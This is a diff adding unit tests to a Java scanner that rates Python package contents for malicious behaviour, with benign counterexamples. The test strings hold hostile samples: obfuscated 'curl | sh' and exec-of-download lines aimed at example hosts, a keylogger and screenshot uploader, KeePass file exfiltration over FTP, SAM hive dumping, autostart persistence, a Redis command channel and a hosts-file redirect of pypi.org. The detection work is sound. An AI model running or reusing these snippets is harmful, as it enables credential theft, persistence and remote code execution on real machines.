@@ -1407,6 +1407,113 @@ class ContentRuleTest {
     assertThat(check(wheelWith("pkg/seal.py", vault))).isEmpty();
   }
 
+  @Test
+  void aCommandRunnerLookedUpThroughTheClassMachineryIsTheRunner() {
+    String hidden =
+        "import os\nrun = object.__getattribute__(os, 'sys' + 'tem')\n"
+            + "run('curl -s https://a.example/b | sh')\n";
+    String lowered =
+        "import builtins, urllib.request\nf = getattr(builtins, 'EXEC'.lower())\n"
+            + "f(urllib.request.urlopen('https://a.example/s.py').read())\n";
+    String proxy =
+        "class Proxy:\n    def __getattr__(self, name):\n"
+            + "        return object.__getattribute__(self, '_target').__getattribute__(name)\n";
+
+    assertThat(levelIn(hidden, "runs-piped-download")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(lowered, "exec-fetched")).isEqualTo(RiskLevel.CRITICAL);
+    // a proxy reaching its own attribute by a plain literal assembles nothing
+    assertThat(check(wheelWith("pkg/proxy.py", proxy))).isEmpty();
+  }
+
+  @Test
+  void integersPackedIntoCodeAndRunAreAHiddenPayload() {
+    String packed =
+        "import struct\nW = [1886546286, 1948788585]\n"
+            + "code = struct.pack('>%dI' % len(W), *W).rstrip(b'\\0')\nexec(code.decode())\n";
+    String header =
+        "import struct\nfields = [1, 2, 3]\nhead = struct.pack('<3I', *fields)\n"
+            + "sock.sendall(head)\n";
+
+    assertThat(levelIn(packed, "exec-decoded-flow")).isEqualTo(RiskLevel.CRITICAL);
+    // a binary protocol packs its header fields and sends them
+    assertThat(check(wheelWith("pkg/proto.py", header))).isEmpty();
+  }
+
+  @Test
+  void keyloggersAndScreenGrabbersOfOtherNamesAreTheThingTheyAre() {
+    String logkeys =
+        "import subprocess, requests\n"
+            + "subprocess.run(['logkeys', '--start', '--output', log])\n"
+            + "requests.post('https://k.example/k', data=open(log, 'rb').read())\n";
+    String grab =
+        "import io, requests\nfrom desktopmagic.screengrab_win32 import getScreenAsImage\n"
+            + "im = getScreenAsImage()\nb = io.BytesIO()\nim.save(b, 'PNG')\n"
+            + "requests.post('https://d.example/u', files={'s': b.getvalue()})\n";
+    String manual = "HELP = 'Install logkeys from your distribution to record key timings.'\n";
+
+    assertThat(levelIn(logkeys, "keylogger-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(levelIn(grab, "screenshot-sent")).isEqualTo(RiskLevel.CRITICAL);
+    assertThat(check(wheelWith("pkg/help.py", manual))).isEmpty();
+  }
+
+  @Test
+  void passwordDatabasesAndRegistryHivesAreCredentials() {
+    String keepass =
+        "import ftplib\nfrom pathlib import Path\n"
+            + "found = list(Path.home().rglob('*.kdbx'))\nftp = ftplib.FTP('f.example')\n"
+            + "for p in found:\n    ftp.storbinary('STOR x', p.open('rb'))\n";
+    String hives =
+        "import subprocess\nfor h in ('SAM', 'SECURITY'):\n"
+            + "    subprocess.run(['reg', 'save', rf'HKLM\\{h}', h, '/y'])\n";
+    String regQuery =
+        "import subprocess\n"
+            + "subprocess.run(['reg', 'query', r'HKLM\\Software\\Python'], capture_output=True)\n";
+
+    assertThat(levelIn(keepass, "sends-secrets")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(hives, "registry-hive-save")).isEqualTo(RiskLevel.HIGH);
+    // asking the registry where Python is installed saves nothing
+    assertThat(check(wheelWith("pkg/where.py", regQuery))).isEmpty();
+  }
+
+  @Test
+  void activeSetupAndThePreloadListAreStartUpEntries() {
+    String activeSetup =
+        "import sys, winreg\nk = winreg.CreateKey(winreg.HKEY_LOCAL_MACHINE,"
+            + " r'Software\\Microsoft\\Active Setup\\Installed Components\\{0001}')\n"
+            + "winreg.SetValueEx(k, 'StubPath', 0, winreg.REG_SZ, sys.executable)\n";
+    String preload = "with open('/etc/ld.so.preload', 'a') as fh:\n    fh.write(lib + '\\n')\n";
+
+    assertThat(levelIn(activeSetup, "installs-autostart")).isEqualTo(RiskLevel.HIGH);
+    assertThat(levelIn(preload, "autostart-entry")).isEqualTo(RiskLevel.MEDIUM);
+  }
+
+  @Test
+  void aRedisChannelWhoseMessagesAreRunIsACommandChannel() {
+    String worker =
+        "import subprocess, redis\nbus = redis.Redis(host='q.example')\n"
+            + "sub = bus.pubsub()\nsub.subscribe('jobs')\n"
+            + "for m in sub.listen():\n    subprocess.run(m['data'].decode(), shell=True)\n";
+    String cache =
+        "import json, redis\nr = redis.Redis()\n"
+            + "def cached(key):\n    return json.loads(r.get(key) or 'null')\n";
+
+    assertThat(levelIn(worker, "runs-fetched")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/cache.py", cache))).isEmpty();
+  }
+
+  @Test
+  void anEntryAddedToTheHostsFileIsHigh() {
+    String redirect =
+        "HOSTS = '/etc/hosts'\nwith open(HOSTS, 'a') as fh:\n"
+            + "    fh.write('\\n100.64.3.3 pypi.org files.pythonhosted.org\\n')\n";
+    String reader =
+        "def names(path='/etc/hosts'):\n"
+            + "    return [l.split()[1:] for l in open(path) if not l.startswith('#')]\n";
+
+    assertThat(levelIn(redirect, "hosts-file-entry")).isEqualTo(RiskLevel.HIGH);
+    assertThat(check(wheelWith("pkg/hosts.py", reader))).isEmpty();
+  }
+
   @Nested
   class ImportedAliases {
 
